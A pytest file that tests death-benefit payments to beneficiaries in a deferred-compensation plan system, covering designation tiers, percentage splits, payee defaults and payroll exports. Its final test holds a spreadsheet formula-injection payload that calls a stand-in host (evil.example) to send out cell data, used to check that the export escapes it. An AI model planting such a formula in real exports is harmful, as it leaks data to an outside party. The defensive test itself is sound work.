"""Death benefits paid to the Beneficiary (EDCP 5.4, RRP 4.01(a)) as the plans define it (EDCP 1.2, RRP 1.02):
the designation in force, its primary tier, then its contingent tier, then the Surviving Spouse, then the estate.

P1 defers 50% of six 10,000.00 pays: 30,000.00 in the Retirement/Termination Account, one fund at 10.00;
dies July 20, 2026: one lump sum valued that day, Payment Date August 15, released Monday August 17.
"""

from __future__ import annotations

import datetime as dt

import pytest

from participants.models import Beneficiary, Person
from participants.services import beneficiaries_designate, employment_event_record
from payments.models import PaymentSchedule, ScheduledPayment
from tests.payments.factories import advance, deferrals, replayed_once, scenario, simulate, staff_user, totals
from tests.signin import sign_in

pytestmark = pytest.mark.django_db
DEATH = dt.date(2026, 7, 20)


def _designate(person: Person, plan, *rows: tuple[str, str, int], on=dt.datetime(2026, 2, 1, tzinfo=dt.UTC)):
    return beneficiaries_designate(
        person=person,
        plan=plan,
        actor="test",
        now=on,
        beneficiaries=[{"tier": t, "name": n, "percent": pct} for t, n, pct in rows],
    )


def _dies(person: Person, on: dt.date = DEATH) -> None:
    employment_event_record(
        person=person,
        kind="death",
        effective_date=on,
        actor="test",
        now=dt.datetime(on.year, on.month, on.day, 15, tzinfo=dt.UTC),
    )


def _p1_history() -> None:
    simulate(scenario(events=deferrals(), through="2026-07-17"))


@pytest.fixture
def p1(db):
    """P1 of TestP1Dies's history (replayed once for the class)."""
    return Person.objects.get(employee_number="P1")


def paid(person: Person) -> list[tuple[str, str, str, str]]:
    return [
        (
            p.payee_name,
            f"{p.percent.normalize():f}" if p.percent is not None else "",
            f"{p.amount:.2f}" if p.amount is not None else "",
            p.status,
        )
        for p in ScheduledPayment.objects.filter(participation__person=person)
        .exclude(status="cancelled")
        .order_by("id")
    ]


@pytest.mark.parametrize(
    "married, payee", [(True, "Surviving Spouse of Participant P1"), (False, "Estate of Participant P1")]
)
def test_without_a_designation_the_surviving_spouse_else_the_estate_is_the_beneficiary(married, payee):
    people = {"P1": {"birth_date": "1968-04-10", "hire_date": "2012-03-01", "married": married}}
    result = simulate(
        scenario(
            participants=people,
            events=deferrals() + [{"on": "2026-07-20", "type": "death", "participant": "P1"}],
            through="2026-08-31",
        )
    )
    assert [(r["payee"], r["amount"], r["payment_date"]) for r in result["payments"]] == [
        (payee, "30000.00", "2026-08-15")
    ]
    assert totals(result) == {
        ("P1", "2026-08-15"): "30000.00"
    }  # the report totals per Payment Date as before
    assert "EDCP 1.2" in PaymentSchedule.objects.get(kind="benefit").summary


def test_rrp_payees_of_a_benefit_valued_on_its_release_date_share_one_liquidation_split_by_percent():
    # 400,000 of pay: 40,000 above the 2026 limit, 10% deferred = 4,000, matched 2,400: 6,400.00 (RRP 2017).
    people = {"R1": {"birth_date": "1970-01-01", "hire_date": "2010-01-04"}}
    events = [
        {
            "on": "2025-12-10",
            "type": "deferral_election",
            "participant": "R1",
            "plan_year": 2026,
            "percentages": {"plan_compensation": 10},
        },
        {
            "on": "2026-01-30",
            "type": "pay",
            "participant": "R1",
            "component": "base_salary",
            "gross": "400000.00",
        },
    ]
    simulate(scenario(plan="RRP", participants=people, events=events, through="2026-03-02"))
    r1 = Person.objects.get(employee_number="R1")
    from plans.models import Plan

    _designate(r1, Plan.objects.get(code="RRP"), ("primary", "Ann Heir", 67), ("primary", "Ben Heir", 33))
    _dies(r1, dt.date(2026, 3, 4))
    advance(to="2026-03-06", price="10.00")
    rows = list(
        ScheduledPayment.objects.filter(participation__person=r1)
        .exclude(status="cancelled")
        .order_by("account_id", "id")
    )
    by_account: dict[str, list[ScheduledPayment]] = {}
    for p in rows:
        by_account.setdefault(p.account.name, []).append(p)
    # Each account: one distribution selling everything on March 4, split 67/33 among the payees.
    assert {
        name: [(p.payee_name, f"{p.amount:.2f}", p.status) for p in ps] for name, ps in by_account.items()
    } == {
        "elective_deferral": [("Ann Heir", "2680.00", "paid"), ("Ben Heir", "1320.00", "paid")],
        "matching": [("Ann Heir", "1608.00", "paid"), ("Ben Heir", "792.00", "paid")],
    }
    for ps in by_account.values():
        assert len({p.pending_id for p in ps}) == 1 and ps[0].pending.liquidate_all
        assert -ps[0].pending.applied_amount == sum(p.amount for p in ps)
        assert {(p.share, p.payment_date, p.paid_on) for p in ps} == {
            ("liquidate_part", dt.date(2026, 3, 4), dt.date(2026, 3, 4))
        }


def test_every_plan_version_names_its_default_beneficiary_with_the_section_defining_beneficiary():
    from plans.models import PlanVersion

    cites = {
        (v.plan.code, v.effective_date.isoformat()): (
            v.provision("default_beneficiary"),
            v.cite("default_beneficiary"),
        )
        for v in PlanVersion.objects.select_related("plan")
    }
    assert cites == {
        ("EDCP", "2011-01-01"): (["spouse", "estate"], "EDCP 1.2"),
        ("EDCP", "2024-08-01"): (["spouse", "estate"], "EDCP 1.2"),
        ("RRP", "2011-06-30"): (["spouse", "estate"], "RRP 1.02"),
        ("RRP", "2017-01-01"): (["spouse", "estate"], "RRP 1.02"),
        ("BRP", "2011-06-30"): (["spouse", "estate"], "BRP 1.3"),
    }


def test_a_default_beneficiary_list_must_end_with_the_estate():
    from plans.provisions import ProvisionError, validate_provision

    validate_provision("default_beneficiary", ["spouse", "estate"])
    for bad in (["spouse"], [], ["estate", "cousin"], "estate"):
        with pytest.raises(ProvisionError):
            validate_provision("default_beneficiary", bad)


class TestP1Dies:
    """P1's 30,000.00 up to July 17, 2026 (_p1_history), replayed once for the class; each test names the
    beneficiaries and records the death."""

    @pytest.fixture(scope="class", autouse=True)
    @classmethod
    def _replayed(cls, django_db_setup, django_db_blocker):
        with replayed_once(django_db_blocker, _p1_history):
            yield

    def test_the_death_benefit_is_split_among_the_primary_beneficiaries_by_their_percentages(self, p1, edcp):
        _designate(
            p1, edcp, ("primary", "Ann Heir", 60), ("primary", "Ben Heir", 40), ("contingent", "Cy Heir", 100)
        )
        _dies(p1)
        advance(to="2026-08-18")
        assert paid(p1) == [("Ann Heir", "60", "18000.00", "paid"), ("Ben Heir", "40", "12000.00", "paid")]
        rows = ScheduledPayment.objects.filter(participation__person=p1)
        assert {(p.payment_date, p.paid_on, p.valued_as_of, p.cite, p.share) for p in rows} == {
            (dt.date(2026, 8, 15), dt.date(2026, 8, 17), DEATH, "EDCP 5.4", "part")
        }
        schedule = PaymentSchedule.objects.get(participation__person=p1, kind="benefit")
        assert (
            "Ann Heir (60%), Ben Heir (40%)" in schedule.summary
            and "primary beneficiaries" in schedule.summary
        )

    def test_a_predeceased_primarys_share_goes_to_the_other_primaries_in_proportion_the_last_taking_the_cents(
        self, p1, edcp
    ):
        designation = _designate(
            p1,
            edcp,
            ("primary", "Ann Heir", 50),
            ("primary", "Ben Heir", 25),
            ("primary", "Cal Heir", 25),
            ("contingent", "Cy Heir", 100),
        )
        Beneficiary.objects.filter(designation=designation, name="Cal Heir").update(
            deceased_on=dt.date(2026, 3, 1)
        )
        _dies(p1)
        advance(to="2026-08-18")
        # 50 and 25 of the 75 left: 66.6667% of 30,000.00 = 20,000.01; the last takes the rest, 9,999.99.
        assert paid(p1) == [
            ("Ann Heir", "66.6667", "20000.01", "paid"),
            ("Ben Heir", "33.3333", "9999.99", "paid"),
        ]
        assert (
            "Cal Heir predeceased"
            in PaymentSchedule.objects.get(participation__person=p1, kind="benefit").summary
        )

    def test_a_beneficiary_who_dies_after_the_participant_still_takes_the_share(self, p1, edcp):
        designation = _designate(p1, edcp, ("primary", "Ann Heir", 50), ("primary", "Ben Heir", 50))
        Beneficiary.objects.filter(designation=designation, name="Ben Heir").update(
            deceased_on=dt.date(2026, 7, 21)
        )
        _dies(p1)
        advance(to="2026-07-21")
        assert [row[:3] for row in paid(p1)] == [
            ("Ann Heir", "50", "15000.00"),
            ("Ben Heir", "50", "15000.00"),
        ]

    def test_when_no_primary_beneficiary_survives_the_contingent_ones_take_the_benefit(self, p1, edcp):
        designation = _designate(
            p1,
            edcp,
            ("primary", "Ann Heir", 100),
            ("contingent", "Cy Heir", 70),
            ("contingent", "Di Heir", 30),
        )
        Beneficiary.objects.filter(designation=designation, name="Ann Heir").update(deceased_on=DEATH)
        _dies(p1)
        advance(to="2026-07-21")
        assert [row[:3] for row in paid(p1)] == [("Cy Heir", "70", "21000.00"), ("Di Heir", "30", "9000.00")]

    def test_the_newest_designation_received_is_the_one_in_force(self, p1, edcp):
        _designate(p1, edcp, ("primary", "Old Heir", 100))
        _designate(p1, edcp, ("primary", "New Heir", 100), on=dt.datetime(2026, 5, 1, tzinfo=dt.UTC))
        _dies(p1)
        advance(to="2026-07-21")
        assert paid(p1) == [("New Heir", "", "30000.00", "valued")]

    def test_payees_show_on_the_schedule_page_the_payroll_file_and_the_register(self, client, p1, edcp):
        from core.pdf import document_bytes, pdf_text
        from payments.models import PaymentRun
        from payments.services.runs import payment_run_csv, payment_run_register

        _designate(p1, edcp, ("primary", "Ann Heir", 60), ("primary", "Ben Heir", 40))
        _dies(p1)
        sign_in(client, staff_user("audrey", "auditor"))
        page = client.get(f"/staff/payments/participant/{p1.pk}/").content.decode()
        assert "to Ann Heir (60%)" in page and "to Ben Heir (40%)" in page
        advance(to="2026-08-17")
        run = PaymentRun.objects.get()
        lines = payment_run_csv(run=run).splitlines()
        assert lines[0].endswith(",plan_section,payee,payee_percent")
        assert [line.split(",")[-3:] for line in lines[1:]] == [
            ["EDCP 5.4", "Ann Heir", "60"],
            ["EDCP 5.4", "Ben Heir", "40"],
        ]
        text = " ".join(pdf_text(document_bytes(payment_run_register(run=run, actor="test"))).split())
        assert "Ann Heir (60%) (of" in text and "Ben Heir (40%) (of" in text and "Participant P1)" in text
        assert "21,675.00" in text  # the net total: the last columns fit on the (landscape) page

    def test_a_designation_recorded_after_the_death_is_used_when_staff_compute_the_schedule_again(
        self, client, p1, edcp
    ):
        _dies(p1)
        assert paid(p1) == [("Estate of Participant P1", "", "", "scheduled")]  # nobody designated: EDCP 1.2
        _designate(p1, edcp, ("primary", "Ann Heir", 100), on=dt.datetime(2026, 7, 22, tzinfo=dt.UTC))
        sign_in(client, staff_user("ada", "administrator"))
        assert client.post(f"/staff/payments/participant/{p1.pk}/recompute").status_code == 302
        advance(to="2026-08-18")
        assert paid(p1) == [("Ann Heir", "", "30000.00", "paid")]
        sign_in(client, staff_user("audrey", "auditor"))
        assert client.post(f"/staff/payments/participant/{p1.pk}/recompute").status_code == 403

    def test_a_death_benefit_already_paid_is_not_paid_again_when_the_designation_changes(self, p1, edcp):
        from payments.services.schedules import participant_schedules_recompute

        _dies(p1)
        advance(to="2026-08-18")
        assert paid(p1) == [("Estate of Participant P1", "", "30000.00", "paid")]
        _designate(p1, edcp, ("primary", "Late Heir", 100), on=dt.datetime(2026, 9, 1, tzinfo=dt.UTC))
        participant_schedules_recompute(person=p1, because="test")
        assert paid(p1) == [("Estate of Participant P1", "", "30000.00", "paid")]

    def test_a_beneficiary_named_like_a_formula_reaches_the_payroll_file_as_text(self, client, p1, edcp):
        """Issue 12, finding 5: a spreadsheet must not evaluate a name typed into a beneficiary designation."""
        import csv
        import io

        from payments.models import PaymentRun
        from payments.services.runs import payment_run_csv

        formula = '=HYPERLINK("http://evil.example/?"&A1,"Ann")'
        _designate(p1, edcp, ("primary", formula, 60), ("primary", "-2+3", 40))
        _dies(p1)
        advance(to="2026-08-17")
        rows = list(csv.DictReader(io.StringIO(payment_run_csv(run=PaymentRun.objects.get()))))
        assert [r["payee"] for r in rows] == ["'" + formula, "'-2+3"]
